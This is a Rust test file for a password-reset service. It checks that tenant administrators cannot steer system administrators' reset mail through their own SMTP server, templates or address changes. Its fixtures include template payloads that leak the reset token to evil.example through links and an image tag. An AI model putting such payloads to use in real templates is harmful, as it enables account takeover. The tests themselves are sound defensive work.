//! Who may steer whose mail (SECURITY.md "Boundaries between administrators"), against a real
//! app and real SMTP servers on loopback, on SQLite and PostgreSQL:
//!
//! - a tenant administrator of the default tenant (or a tenant API key with `settings:write`)
//!   gives the tenant their own SMTP server and reset template, then asks "Forgot password?"
//!   for a system administrator: the link and the "password changed" notice go through the
//!   system's server with the built-in template; the attacker's server sees none of it, while
//!   the tenant's own people do get the tenant's server and template;
//! - a template stored without the save-time checks (an old one, or written straight into the
//!   database) still can't send the link anywhere but to the server's own URL.

use crate::common;

use std::time::Duration;

use common::smtp::{ReceivedMail, SmtpOptions, SmtpServer, TlsMode};
use common::{link_in, mail_html, mail_text, Backend, Browser, TestApp, GOOD_PASSWORD};
use latchkey::domain::{EmailAddress, Language, Role};
use latchkey::mail::templates::{MailKind, TemplateSource};
use latchkey::service::admin_reset::{AdminReset, Recipients, ResetKind, When};
use latchkey::service::{AccountChanges, Actor};
use latchkey::store::{Account, Tenant};
use secrecy::ExposeSecret;
use serde_json::json;

const WAIT: Duration = Duration::from_secs(10);
const ROOT_MAIL: &str = "root@sys.example";
const BOB_MAIL: &str = "bob@default.example";
const CAROL_MAIL: &str = "carol@default.example";
const NEW_PASSWORD: &str = "velvet thunder across the quiet harbour";

struct World {
    app: TestApp,
    tenant: Tenant,
    /// The system's mail server.
    sys: SmtpServer,
    /// The server a tenant administrator of `default` points the tenant at.
    evil: SmtpServer,
}

async fn plain_server() -> SmtpServer {
    SmtpServer::start(SmtpOptions {
        tls: TlsMode::None,
        ..SmtpOptions::default()
    })
    .await
}

async fn with_address(app: &TestApp, t: &Tenant, a: Account, to: &str) -> Account {
    let changes = AccountChanges {
        email: Some(Some(EmailAddress::parse(to).unwrap())),
        ..Default::default()
    };
    app.core
        .update_account(&Actor::Cli, t, a, changes)
        .await
        .unwrap()
}

/// The default tenant with reset switched on, a system administrator `root`, a tenant
/// administrator `tadmin` and a user `bob`; the system's server and the attacker's.
async fn world(backend: Backend) -> World {
    let app = TestApp::spawn_with(backend, |c| {
        c.mail_poll_interval = "100ms".into();
        c.mail_retry_delay = "30s".into();
        // The test servers live on loopback; the attacker's must be accepted to show that the
        // rule doesn't rest on the host check.
        c.tenant_smtp_allow_private_hosts = true;
    })
    .await;
    let sys = common::plain_smtp(&app.core).await;
    let evil = plain_server().await;
    let tenant = app.enable_reset(true).await;
    let root = app
        .user_with(&tenant, "root", GOOD_PASSWORD, Role::SystemAdmin)
        .await;
    with_address(&app, &tenant, root, ROOT_MAIL).await;
    app.user_with(&tenant, "tadmin", GOOD_PASSWORD, Role::TenantAdmin)
        .await;
    let bob = app.user(&tenant, "bob", GOOD_PASSWORD).await;
    with_address(&app, &tenant, bob, BOB_MAIL).await;
    World {
        app,
        tenant,
        sys,
        evil,
    }
}

/// The attacker's template: their marker in every part.
fn evil_template() -> TemplateSource {
    TemplateSource {
        subject: "EVIL reset for {{ tenant_name }}".into(),
        text: "EVIL {{ reset_link }}".into(),
        html: "<p>EVIL <a href=\"{{ reset_link }}\">go</a></p>".into(),
    }
}

async fn signed_in(app: &TestApp, username: &str) -> Browser {
    let mut b = app.browser();
    let r = b.login("default", username, GOOD_PASSWORD).await;
    assert_eq!(r.status, 303, "{username} signs in: {}", r.body);
    b
}

async fn forgot(app: &TestApp, identifier: &str) {
    let mut b = app.browser();
    b.get("/t/default/forgot-password").await;
    let r = b
        .post("/t/default/forgot-password", &[("identifier", identifier)])
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
}

fn to(m: &ReceivedMail, address: &str) -> bool {
    m.rcpt_to.iter().any(|r| r == address)
}

async fn wait_for(srv: &SmtpServer, address: &str, n: usize) -> Vec<ReceivedMail> {
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let got: Vec<ReceivedMail> = srv
            .messages()
            .into_iter()
            .filter(|m| to(m, address))
            .collect();
        if got.len() >= n {
            return got;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "only {} mails to {address}",
            got.len()
        );
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
}

/// Root asks for a link, follows it and sets a new password; then checks where every mail
/// went. Bob (whom the tenant's administrators may manage) asks too, as the control.
async fn root_resets_through_the_system_server(w: &World) {
    forgot(&w.app, "root").await;
    forgot(&w.app, "bob").await;
    // Bob's mail: the tenant's server and template, as its administrators set them.
    let bob = wait_for(&w.evil, BOB_MAIL, 1).await;
    assert!(mail_text(&bob[0].data).contains("EVIL"), "{}", bob[0].data);
    // Root's: the system's server, the built-in template.
    let root = wait_for(&w.sys, ROOT_MAIL, 1).await;
    let text = mail_text(&root[0].data);
    assert!(
        root[0].data.contains("Subject: Reset your password for"),
        "{}",
        root[0].data
    );
    assert!(!text.contains("EVIL") && !root[0].data.contains("EVIL"));
    let link = link_in(&root[0].data, "reset?token=").expect("a link");
    let base = w.app.core.config.public_url.as_str();
    let path = link.strip_prefix(base).expect("the public URL").to_owned();

    // Root sets a new password: the notice goes the same way.
    let mut b = w.app.browser();
    let r = b.get(&path).await;
    assert!(matches!(r.status, 200 | 303), "{}", r.body);
    let r = b
        .post(
            "/t/default/reset",
            &[
                ("new_password", NEW_PASSWORD),
                ("confirm_password", NEW_PASSWORD),
            ],
        )
        .await;
    assert!(matches!(r.status, 200 | 303), "{}", r.body);
    let notices = wait_for(&w.sys, ROOT_MAIL, 2).await;
    assert!(
        notices[1].data.contains("Subject: Your password"),
        "{}",
        notices[1].data
    );
    // A moment for anything stray, then: nothing for root ever reached the attacker's server.
    tokio::time::sleep(Duration::from_millis(500)).await;
    let stray: Vec<ReceivedMail> = w
        .evil
        .messages()
        .into_iter()
        .filter(|m| to(m, ROOT_MAIL))
        .collect();
    assert!(stray.is_empty(), "{stray:#?}");
    let token = path.split("token=").nth(1).unwrap();
    for m in w.evil.messages() {
        assert!(!m.data.contains(token));
    }
}

/// What reached an account through its tenant's server before it was made a system
/// administrator stops working then (found by an attack review): the tenant's administrators
/// may run that server, so a reset link or temporary password they sent to a plain user, kept,
/// would otherwise open a system administrator's account. Its sessions end too (one opened with
/// such a temporary password would become a system administrator's), its links are cancelled
/// and a temporary password expires; the audit event says so. Its own password still works.
async fn what_was_sent_before_a_promotion_stops_working(backend: Backend) {
    let w = world(backend).await;
    let tadmin = account(&w, "tadmin").await;
    let carol = w.app.user(&w.tenant, "carol", GOOD_PASSWORD).await;
    with_address(&w.app, &w.tenant, carol, CAROL_MAIL).await;
    let actor = Actor::Account {
        id: tadmin.id,
        label: "tadmin@default".into(),
    };
    for (who, kind) in [
        ("bob", ResetKind::Link),
        ("carol", ResetKind::TemporaryPassword),
    ] {
        let to = account(&w, who).await;
        let reset = AdminReset {
            kind,
            when: When::Now,
            valid_for_secs: 7 * 86400,
            recipients: Recipients::Accounts(vec![to.id]),
            custom: None,
            may_reset_system_admins: false,
        };
        let made = w.app.core.create_campaign(&actor, &w.tenant, reset, None);
        made.await.unwrap();
    }
    // Past the tenant's delay for administrators' resets, if any.
    w.app.clock.advance(3600);
    let link_mail = wait_for(&w.sys, BOB_MAIL, 1).await.remove(0);
    let link = link_in(&link_mail.data, "reset?token=").expect("a link");
    let path = link
        .strip_prefix(w.app.core.config.public_url.as_str())
        .unwrap()
        .to_owned();
    let temp = crate::campaigns::temp_password_in(&wait_for(&w.sys, CAROL_MAIL, 1).await[0]);
    // Sessions: bob's own, and one opened with carol's temporary password.
    let mut bob_session = signed_in(&w.app, "bob").await;
    let mut with_temp = w.app.browser();
    assert_eq!(with_temp.login("default", "carol", &temp).await.status, 303);
    let (bob, carol) = (account(&w, "bob").await, account(&w, "carol").await);
    let now = w.app.core.now();
    let store = w.app.core.test_store();
    for a in [&bob, &carol] {
        let live = store.live_sessions(a.id, now, 86400).await.unwrap();
        assert_eq!(live.len(), 1, "{}", a.username);
    }
    for a in [bob, carol] {
        let changes = AccountChanges {
            role: Some(Role::SystemAdmin),
            ..Default::default()
        };
        let made = w
            .app
            .core
            .update_account(&Actor::Cli, &w.tenant, a, changes);
        made.await.unwrap();
    }
    let (bob, carol) = (account(&w, "bob").await, account(&w, "carol").await);
    for a in [&bob, &carol] {
        let live = store.live_sessions(a.id, now, 86400).await.unwrap();
        assert!(live.is_empty(), "{}", a.username);
    }
    assert_ne!(bob_session.get("/t/default/account").await.status, 200);
    assert_ne!(with_temp.get("/t/default/account").await.status, 200);
    assert_eq!(w.app.browser().get(&path).await.status, 410, "the link");
    let r = w.app.browser().login("default", "carol", &temp).await;
    assert_ne!(r.status, 303, "the temporary password: {}", r.body);
    // A sign-in that checked carol's temporary password before the promotion committed opens
    // no session after it (found by a review of this change): its session is opened only
    // while the account is as the sign-in checked it.
    let store = w.app.core.test_store();
    let read = account(&w, "carol").await;
    let opened = store
        .open_session_as_checked(read.id, "user", read.password_hash.as_deref(), now)
        .await
        .unwrap();
    assert!(
        !opened,
        "a session for the role carol had when the check began"
    );
    let opened = store
        .open_session_as_checked(read.id, "system-admin", read.password_hash.as_deref(), now)
        .await
        .unwrap();
    assert!(!opened, "the temporary password expired with the promotion");
    let bob_now = account(&w, "bob").await;
    let opened = store
        .open_session_as_checked(bob_now.id, "user", bob_now.password_hash.as_deref(), now)
        .await
        .unwrap();
    assert!(!opened, "bob's password, checked while he was a user");
    let opened = store
        .open_session_as_checked(
            bob_now.id,
            "system-admin",
            bob_now.password_hash.as_deref(),
            w.app.core.now(),
        )
        .await
        .unwrap();
    assert!(opened, "bob's own password, checked as he is now");
    // Bob's own password works, and the audit says what ended.
    signed_in(&w.app, "bob").await;
    let detail: String = sqlx::query_scalar(
        "SELECT detail FROM audit_events WHERE action = 'account.updated' AND target = 'carol' \
         ORDER BY id DESC LIMIT 1",
    )
    .fetch_one(w.app.core.test_store().pool())
    .await
    .unwrap();
    assert!(detail.contains("temporary_password"), "{detail}");
}

/// An administrator's own addresses don't change on the people page (found by an attack
/// review): a borrowed session could otherwise send every future reset mail of the account
/// elsewhere without the password "Password and login" asks for. The rest of their profile
/// does change there, and another administrator may change their addresses.
async fn own_addresses_need_the_password(backend: Backend) {
    let w = world(backend).await;
    let root = account(&w, "root").await;
    let me = Actor::Account {
        id: root.id,
        label: "root@default".into(),
    };
    let evil = EmailAddress::parse("evil@attacker.example").unwrap();
    for changes in [
        AccountChanges {
            reset_email: Some(Some(evil.clone())),
            ..Default::default()
        },
        AccountChanges {
            email: Some(Some(evil.clone())),
            ..Default::default()
        },
        AccountChanges {
            email: Some(None),
            ..Default::default()
        },
    ] {
        let e = w
            .app
            .core
            .update_account(&me, &w.tenant, root.clone(), changes)
            .await
            .unwrap_err();
        assert!(e.to_string().contains("Password and login"), "{e}");
    }
    let root = account(&w, "root").await;
    assert_eq!(
        (root.email.as_deref(), root.reset_email.as_deref()),
        (Some(ROOT_MAIL), None)
    );
    // The same addresses (a form sends them all) and another field: saved.
    let changes = AccountChanges {
        display_name: Some(latchkey::domain::DisplayName::parse("Root").unwrap()),
        email: Some(Some(EmailAddress::parse(ROOT_MAIL).unwrap())),
        reset_email: Some(None),
        ..Default::default()
    };
    let saved = w
        .app
        .core
        .update_account(&me, &w.tenant, root.clone(), changes);
    assert_eq!(saved.await.unwrap().display_name, "Root");
    // Through the console form too.
    let mut b = signed_in(&w.app, "root").await;
    let page = "/t/default/admin/users/root";
    b.get(page).await;
    let r = b
        .post(
            page,
            &[
                ("username", "root"),
                ("display_name", "Root"),
                ("email", ROOT_MAIL),
                ("reset_email", "evil@attacker.example"),
                ("role", "system-admin"),
            ],
        )
        .await;
    assert_eq!(r.status, 422, "{}", r.body);
    assert_eq!(account(&w, "root").await.reset_email, None);
    // Nor through an API key root made in the console (a key is made without the password).
    let scopes = vec!["users:write".to_owned(), "settings:write".to_owned()];
    let (_, own_key) = w
        .app
        .core
        .create_api_key_from(&me, None, "mine", &scopes, None, Some(root.id), None)
        .await
        .unwrap();
    let r = reqwest::Client::new()
        .patch(format!("{}/api/v1/tenants/default/users/root", w.app.base))
        .bearer_auth(own_key.expose_secret())
        .json(&json!({"reset_email": "evil@attacker.example"}))
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    let body = r.text().await.unwrap();
    assert_eq!(status, 422, "{body}");
    assert!(body.contains("Password and login"), "{body}");
    assert_eq!(account(&w, "root").await.reset_email, None);
    let other = w
        .app
        .user_with(&w.tenant, "root2", GOOD_PASSWORD, Role::SystemAdmin)
        .await;
    let by_other = Actor::Account {
        id: other.id,
        label: "root2@default".into(),
    };
    let changes = AccountChanges {
        reset_email: Some(Some(evil)),
        ..Default::default()
    };
    let saved = w
        .app
        .core
        .update_account(&by_other, &w.tenant, root, changes);
    assert_eq!(
        saved.await.unwrap().reset_email.as_deref(),
        Some("evil@attacker.example")
    );
}

/// A save that read the account before another administrator changed its role writes only
/// what it changed (found by an attack review): an administrator being demoted who keeps
/// saving their display name no longer writes their old role back.
async fn a_stale_save_does_not_restore_a_role(backend: Backend) {
    let w = world(backend).await;
    let stale = account(&w, "tadmin").await;
    let me = Actor::Account {
        id: stale.id,
        label: "tadmin@default".into(),
    };
    let demote = AccountChanges {
        role: Some(Role::User),
        ..Default::default()
    };
    let done = w
        .app
        .core
        .update_account(&Actor::Cli, &w.tenant, stale.clone(), demote);
    done.await.unwrap();
    let rename = AccountChanges {
        display_name: Some(latchkey::domain::DisplayName::parse("T. Admin").unwrap()),
        ..Default::default()
    };
    w.app
        .core
        .update_account(&me, &w.tenant, stale, rename)
        .await
        .unwrap();
    let now = account(&w, "tadmin").await;
    assert_eq!(
        (now.role, now.display_name.as_str()),
        (Role::User, "T. Admin")
    );
}

/// A bounce of another account's mail to a system administrator's address doesn't silence
/// the "reset address changed" notice to it (found by an attack review): a tenant
/// administrator gives bob root's address as his reset address (addresses aren't unique) and
/// has the mail to it refused; root's notice still goes out, since root's own mail never
/// bounced.
async fn anothers_bounce_does_not_silence_a_notice(backend: Backend) {
    let w = world(backend).await;
    let bob = account(&w, "bob").await;
    let changes = AccountChanges {
        reset_email: Some(Some(EmailAddress::parse(ROOT_MAIL).unwrap())),
        ..Default::default()
    };
    let done = w
        .app
        .core
        .update_account(&Actor::Cli, &w.tenant, bob, changes);
    done.await.unwrap();
    w.sys
        .script(common::smtp::Step::RcptTo, "550 5.1.1 No such user here", 1);
    forgot(&w.app, "bob").await;
    let deadline = std::time::Instant::now() + WAIT;
    loop {
        let bounced: i64 = sqlx::query_scalar(
            "SELECT COUNT(*) FROM mail_log WHERE recipient = $1 AND smtp_code = 550",
        )
        .bind(ROOT_MAIL)
        .fetch_one(w.app.core.test_store().pool())
        .await
        .unwrap();
        if bounced == 1 {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "no bounce logged");
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    let root = account(&w, "root").await;
    let changes = AccountChanges {
        reset_email: Some(Some(EmailAddress::parse("root@elsewhere.example").unwrap())),
        ..Default::default()
    };
    let done = w
        .app
        .core
        .admin_update_account(&Actor::Cli, &w.tenant, root, changes, None);
    done.await.unwrap();
    let notices: Vec<String> =
        sqlx::query_scalar("SELECT recipient FROM mail_tasks WHERE kind = 'reset_email_changed'")
            .fetch_all(w.app.core.test_store().pool())
            .await
            .unwrap();
    assert_eq!(notices, [ROOT_MAIL]);
}

on_both_backends!(
    tenant_admin_of_default_cannot_steer_a_system_admins_mail,
    tenant_key_of_default_cannot_steer_a_system_admins_mail,
    stored_templates_cannot_send_the_link_elsewhere,
    tenant_keys_cannot_redo_or_cancel_a_system_admins_mail,
    a_reset_queued_before_a_promotion_is_not_sent,
    what_was_sent_before_a_promotion_stops_working,
    own_addresses_need_the_password,
    a_stale_save_does_not_restore_a_role,
    anothers_bounce_does_not_silence_a_notice,
);

async fn tenant_admin_of_default_cannot_steer_a_system_admins_mail(backend: Backend) {
    let w = world(backend).await;
    let mut b = signed_in(&w.app, "tadmin").await;
    // The tenant administrator points the tenant at their own server…
    let port = w.evil.port().to_string();
    b.get("/t/default/admin/smtp").await;
    let r = b
        .post(
            "/t/default/admin/smtp",
            &[
                ("enabled", "on"),
                ("host", "127.0.0.1"),
                ("port", port.as_str()),
                ("security", "none"),
                ("username", ""),
                ("password", ""),
                ("from_address", "noreply@evil.example"),
                ("from_name", "IT"),
                ("timeout_secs", "5"),
                ("extra_ca_pem", ""),
                ("test_to", ""),
                ("action", "save"),
            ],
        )
        .await;
    assert!(matches!(r.status, 200 | 303), "{}", r.body);
    // …and writes the reset and notice templates.
    let t = evil_template();
    b.get("/t/default/admin/templates/reset_link/en").await;
    let r = b
        .post(
            "/t/default/admin/templates/reset_link/en",
            &[
                ("subject", t.subject.as_str()),
                ("text_body", t.text.as_str()),
                ("html_body", t.html.as_str()),
                ("action", "save"),
            ],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.body);
    let r = b
        .post(
            "/t/default/admin/templates/password_changed/en",
            &[
                ("subject", "EVIL nothing happened"),
                ("text_body", "EVIL all is well"),
                ("html_body", "<p>EVIL all is well</p>"),
                ("action", "save"),
            ],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.body);
    root_resets_through_the_system_server(&w).await;
}

async fn tenant_key_of_default_cannot_steer_a_system_admins_mail(backend: Backend) {
    let w = world(backend).await;
    let scopes = vec!["settings:write".to_owned()];
    let (_, key) = w
        .app
        .core
        .create_api_key(&Actor::Cli, Some(&w.tenant), "k", &scopes, None)
        .await
        .unwrap();
    let r = reqwest::Client::new()
        .put(format!("{}/api/v1/tenants/default/smtp", w.app.base))
        .bearer_auth(key.expose_secret())
        .json(&json!({
            "enabled": true, "host": "127.0.0.1", "port": w.evil.port(), "security": "none",
            "auth": false, "from_address": "noreply@evil.example", "timeout_secs": 5,
        }))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    // Templates have no API: whoever else may write them for the tenant, the rule is the same.
    w.app
        .core
        .save_template(
            &Actor::Cli,
            &w.tenant,
            MailKind::ResetLink,
            Language::En,
            &evil_template(),
            None,
        )
        .await
        .unwrap();
    root_resets_through_the_system_server(&w).await;
}

async fn stored_templates_cannot_send_the_link_elsewhere(backend: Backend) {
    let w = world(backend).await;
    // Written straight into the store: no save-time check ran.
    let t = TemplateSource {
        subject: "Reset".into(),
        text: "Click https://evil.example/?r={{ reset_link }}\n{% if reset_link == 'x' %}{% endif %}".into(),
        html: "<p title=\"x>\"><a title=\"a>b\" href=\"https://evil.example/?r={{ reset_link }}\">go</a></p>\
               <image src=\"https://evil.example/{{ reset_link }}\"><p>https://evil.example/?{{ reset_link }}</p>"
            .into(),
    };
    w.app
        .core
        .test_store()
        .put_template(
            (w.tenant.id, MailKind::ResetLink, Language::En),
            &t,
            w.app.core.now(),
        )
        .await
        .unwrap();
    forgot(&w.app, "bob").await;
    let mail = wait_for(&w.sys, BOB_MAIL, 1).await.remove(0);
    let ours = format!(
        "{}/t/default/reset?token=",
        w.app.core.config.public_url.as_str()
    );
    let text = mail_text(&mail.data);
    let token = link_in(&mail.data, "reset?token=")
        .and_then(|l| l.strip_prefix(&ours).map(str::to_owned))
        .expect("the link, on its own");
    for word in text.split_whitespace().filter(|w| w.contains(&token)) {
        assert!(word.starts_with(&ours), "text: {word}");
    }
    assert!(
        !text.contains("evil.example/?r=http"),
        "text part glued to another URL: {text}"
    );
    let html = mail_html(&mail.data);
    assert!(html.contains(&format!("href=\"{ours}{token}\"")), "{html}");
    for (at, _) in html.match_indices(&token) {
        assert!(html[..at].ends_with(&ours), "{html}");
        let before = html[..at - ours.len()].chars().last();
        assert!(matches!(before, Some('"' | '>')), "{html}");
    }
    assert!(!html.contains("evil.example/?r=http") && !html.contains("evil.example/http"));
    assert!(!html.to_ascii_lowercase().contains("<image") && !html.contains("<img"));
}

async fn account(w: &World, username: &str) -> Account {
    w.app
        .core
        .account_named(&w.tenant, username)
        .await
        .unwrap()
        .unwrap()
}

async fn key(w: &World, tenant: Option<&Tenant>) -> String {
    let scopes = vec!["resets:send".to_owned(), "mail:read".to_owned()];
    let (_, key) = w
        .app
        .core
        .create_api_key(&Actor::Cli, tenant, "k", &scopes, None)
        .await
        .unwrap();
    key.expose_secret().to_owned()
}

async fn post(w: &World, key: &str, path: &str) -> (u16, serde_json::Value) {
    let r = reqwest::Client::new()
        .post(format!("{}{path}", w.app.base))
        .bearer_auth(key)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or_default())
}

async fn status_of(w: &World, task: i64) -> String {
    w.app
        .core
        .test_store()
        .task(task)
        .await
        .unwrap()
        .unwrap()
        .status
        .to_string()
}

/// A reset of `to` queued by `actor` to go out in an hour; its campaign and task ids.
async fn scheduled_reset(w: &World, actor: &Actor, to: &Account, privileged: bool) -> (i64, i64) {
    let campaign = w
        .app
        .core
        .create_campaign(
            actor,
            &w.tenant,
            AdminReset {
                kind: ResetKind::Link,
                when: When::At(w.app.core.now() + 3600),
                valid_for_secs: 3600,
                recipients: Recipients::Accounts(vec![to.id]),
                custom: None,
                may_reset_system_admins: privileged,
            },
            None,
        )
        .await
        .unwrap();
    let task: i64 = sqlx::query_scalar("SELECT id FROM mail_tasks WHERE campaign_id = $1")
        .bind(campaign)
        .fetch_one(w.app.core.test_store().pool())
        .await
        .unwrap();
    (campaign, task)
}

/// A tenant administrator (here: a tenant key) can't cancel a system administrator's waiting
/// mail or redo a failed reset of theirs — one task at a time or a whole campaign; an
/// all-tenants key can.
async fn tenant_keys_cannot_redo_or_cancel_a_system_admins_mail(backend: Backend) {
    let w = world(backend).await;
    let root = account(&w, "root").await;
    let tenant_key = key(&w, Some(&w.tenant)).await;
    let all_key = key(&w, None).await;
    let (campaign, task) = scheduled_reset(&w, &Actor::Cli, &root, true).await;
    let base = "/api/v1/tenants/default";

    let (status, body) = post(&w, &tenant_key, &format!("{base}/tasks/{task}/cancel")).await;
    assert_eq!(status, 422, "{body}");
    assert!(
        body.to_string().contains("Only a system administrator"),
        "{body}"
    );
    let (status, _) = post(
        &w,
        &tenant_key,
        &format!("{base}/campaigns/{campaign}/cancel"),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(status_of(&w, task).await, "waiting");
    let (status, body) = post(&w, &all_key, &format!("{base}/tasks/{task}/cancel")).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(status_of(&w, task).await, "cancelled");

    let (campaign, task) = scheduled_reset(&w, &Actor::Cli, &root, true).await;
    sqlx::query("UPDATE mail_tasks SET status = 'failed' WHERE id = $1")
        .bind(task)
        .execute(w.app.core.test_store().pool())
        .await
        .unwrap();
    let (status, body) = post(&w, &tenant_key, &format!("{base}/tasks/{task}/redo")).await;
    assert_eq!(status, 422, "{body}");
    let (status, _) = post(
        &w,
        &tenant_key,
        &format!("{base}/campaigns/{campaign}/redo-failed"),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(status_of(&w, task).await, "failed");
    let (status, body) = post(&w, &all_key, &format!("{base}/tasks/{task}/redo")).await;
    assert_eq!(status, 200, "{body}");
    assert_ne!(status_of(&w, task).await, "failed");
}

/// A tenant administrator schedules a reset link for bob, who is made a system administrator
/// before it goes out: it isn't sent, and bob's sessions and password stay as they were.
async fn a_reset_queued_before_a_promotion_is_not_sent(backend: Backend) {
    let w = world(backend).await;
    let tadmin = account(&w, "tadmin").await;
    let bob = account(&w, "bob").await;
    let actor = Actor::Account {
        id: tadmin.id,
        label: "tadmin@default".into(),
    };
    let (_, task) = scheduled_reset(&w, &actor, &bob, false).await;
    let changes = AccountChanges {
        role: Some(Role::SystemAdmin),
        ..Default::default()
    };
    w.app
        .core
        .update_account(&Actor::Cli, &w.tenant, bob, changes)
        .await
        .unwrap();
    w.app.clock.advance(3601);
    let deadline = std::time::Instant::now() + WAIT;
    while status_of(&w, task).await != "failed" {
        assert!(
            std::time::Instant::now() < deadline,
            "still {}",
            status_of(&w, task).await
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let log: Vec<String> = sqlx::query_scalar("SELECT smtp_reply FROM mail_log WHERE task_id = $1")
        .bind(task)
        .fetch_all(w.app.core.test_store().pool())
        .await
        .unwrap();
    assert!(
        log.iter()
            .any(|r| r.contains("only a system administrator may reset")),
        "{log:?}"
    );
    assert!(w
        .sys
        .messages()
        .iter()
        .chain(w.evil.messages().iter())
        .all(|m| !to(m, BOB_MAIL)));
    // No link was made for bob, and his password is untouched.
    let tokens: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM reset_tokens WHERE account_id = $1")
        .bind(account(&w, "bob").await.id)
        .fetch_one(w.app.core.test_store().pool())
        .await
        .unwrap();
    assert_eq!(tokens, 0);
    assert_eq!(
        w.app
            .browser()
            .login("default", "bob", GOOD_PASSWORD)
            .await
            .status,
        303
    );
}
